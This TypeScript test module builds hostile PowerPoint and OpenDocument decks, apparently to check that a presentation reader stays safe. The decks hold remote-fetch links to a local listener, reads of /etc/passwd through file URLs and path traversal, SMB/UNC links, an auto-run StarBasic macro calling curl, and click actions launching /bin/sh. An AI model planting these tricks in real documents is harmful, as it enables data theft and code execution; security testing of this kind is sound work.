/** Decks that make their reader fetch, open or run something. */

import { linked, odpOf, spoilt, type HostileDeck } from './deck.ts';

const IMAGE = '<draw:image xlink:href="PLACE" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>';
const framed = (inner: string): string => `<draw:frame svg:width="5cm" svg:height="5cm">${inner}</draw:frame>`;
const VBA = 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml';

/** @param server where a listener waits for whoever comes, `127.0.0.1:port` */
export function linkDecks(server: string): HostileDeck[] {
  const http = `http://${server}`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image xlink:href="${http}/svg.png" width="9" height="9"/></svg>`;
  return [
    {
      file: 'picture-http.pptx',
      tries: 'a picture on a web server',
      ends: 'completed',
      quick: true,
      make: () => linked(`${http}/picture.png`),
    },
    {
      file: 'picture-file.pptx',
      tries: 'a picture in /etc',
      ends: 'completed',
      make: () => linked('file:///etc/passwd'),
    },
    {
      file: 'picture-unc.pptx',
      tries: 'a picture on a Windows share',
      ends: 'completed',
      make: () => linked('\\\\127.0.0.1\\share\\x.png'),
    },
    {
      file: 'picture-smb.pptx',
      tries: 'the same by its address',
      ends: 'completed',
      make: () => linked(`smb://${server}/share/x.png`),
    },
    {
      file: 'ole-http.pptx',
      tries: 'a table on a web server',
      ends: 'completed',
      make: () => linked(`${http}/table.xlsx`, 'oleObject'),
    },
    {
      file: 'ole-file.pptx',
      tries: 'a table in /etc',
      ends: 'completed',
      make: () => linked('file:///etc/hosts!Sheet1', 'oleObject'),
    },
    {
      file: 'film-http.pptx',
      tries: 'a film on a web server',
      ends: 'completed',
      make: () => linked(`${http}/film.mp4`, 'video'),
    },
    {
      file: 'template-http.pptx',
      tries: 'a master on a web server',
      ends: 'completed',
      make: () => linked(`${http}/master.xml`, 'slideMaster'),
    },
    {
      file: 'unmarked-link.pptx',
      tries: 'a picture on a web server, said to be inside',
      ends: 'completed',
      make: () =>
        spoilt('ppt/slides/_rels/slide1.xml.rels', (xml) =>
          xml.replace(/Target="[^"]*media[^"]*"/, `Target="${http}/inside.png"`),
        ),
    },
    {
      file: 'svg-as-png.pptx',
      tries: 'a drawing called PNG that has a picture on a web server',
      ends: 'completed',
      make: () =>
        spoilt('ppt/slides/_rels/slide1.xml.rels', (xml) => xml.replace(/[^"/]*\.png"/, 'drawing.png"'), {
          'ppt/media/drawing.png': svg,
        }),
    },
    {
      file: 'picture-http.odp',
      tries: 'a picture on a web server',
      ends: 'completed',
      quick: true,
      make: () => odpOf(framed(IMAGE.replace('PLACE', `${http}/odp.png`))),
    },
    {
      file: 'picture-up.odp',
      tries: 'a picture beside the deck',
      ends: 'completed',
      make: () => odpOf(framed(IMAGE.replace('PLACE', '../../../../etc/passwd'))),
    },
    {
      file: 'renamed-prefix.odp',
      tries: 'the same picture under another prefix',
      ends: 'completed',
      make: () =>
        odpOf(
          framed(
            IMAGE.replaceAll('xlink:', 'y:')
              .replace('PLACE', `&#104;ttp://${server}/entity.png`)
              .replace('<draw:image', '<draw:image xmlns:y="http://www.w3.org/1999/xlink"'),
          ),
        ),
    },
    {
      file: 'object-http.odp',
      tries: 'a document on a web server inside a slide',
      ends: 'completed',
      make: () =>
        odpOf(
          framed(
            `<draw:object xlink:href="${http}/object.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`,
          ),
        ),
    },
    {
      file: 'frame-http.odp',
      tries: 'a web page inside a slide',
      ends: 'completed',
      make: () => odpOf(framed(`<draw:floating-frame xlink:href="${http}/page.html" xlink:type="simple"/>`)),
    },
    {
      file: 'plugin-http.odp',
      tries: 'a plug-in with a film on a web server',
      ends: 'completed',
      make: () =>
        odpOf(
          framed(
            `<draw:plugin xlink:href="${http}/film.mp4" draw:mime-type="application/vnd.sun.star.media" xlink:type="simple"/>`,
          ),
        ),
    },
    {
      file: 'background-http.odp',
      tries: 'a background on a web server',
      ends: 'completed',
      make: () =>
        odpOf('', {
          'styles.xml': styles(
            `<draw:fill-image draw:name="b" xlink:href="${http}/background.png" xlink:type="simple"/>`,
          ),
        }),
    },
    {
      file: 'macro.pptm',
      tries: 'macros',
      ends: 'completed',
      make: () =>
        spoilt('[Content_Types].xml', (xml) => xml.replace(/application\/vnd[^"]*presentation\.main\+xml/, VBA), {
          'ppt/vbaProject.bin': Buffer.alloc(20_000, 'Sub AutoOpen() Shell "curl"'),
        }),
    },
    {
      file: 'macro.odp',
      tries: 'a macro that runs when the deck is opened',
      ends: 'completed',
      make: () =>
        odpOf(
          '',
          basic(http),
          '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>',
        ),
    },
    {
      file: 'program.pptx',
      tries: 'a click that starts a program',
      ends: 'completed',
      make: () =>
        spoilt('ppt/slides/slide1.xml', (xml) =>
          xml.replace(
            /(<p:cNvPr [^>/]*)\/>/,
            '$1><a:hlinkClick r:id="" action="ppaction://program?file=/bin/sh"/><a:hlinkHover r:id="" action="ppaction://program?file=/bin/sh"/></p:cNvPr>',
          ),
        ),
    },
    {
      file: 'program-file.pptx',
      tries: 'a click that opens a file',
      ends: 'completed',
      make: () => linked('file:///bin/sh', 'hyperlink'),
    },
    {
      file: 'sound-http.odp',
      tries: 'a transition with a sound on a web server',
      ends: 'completed',
      make: () =>
        odpOf(
          `<draw:rect svg:width="2cm" svg:height="2cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///bin/sh"/><presentation:event-listener script:event-name="dom:click" presentation:action="sound"><presentation:sound xlink:href="${http}/s.wav"/></presentation:event-listener></office:event-listeners></draw:rect>`,
        ),
    },
  ];
}

const styles = (inner: string): string =>
  `<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:styles>${inner}</office:styles></office:document-styles>`;

const basic = (http: string): Record<string, string> => ({
  'Basic/script-lc.xml':
    '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>',
  'Basic/Standard/script-lb.xml':
    '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"><library:element library:name="Module1"/></library:library>',
  'Basic/Standard/Module1.xml': `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
Shell("/usr/bin/curl", 1, "${http}/macro")
End Sub</script:module>`,
});
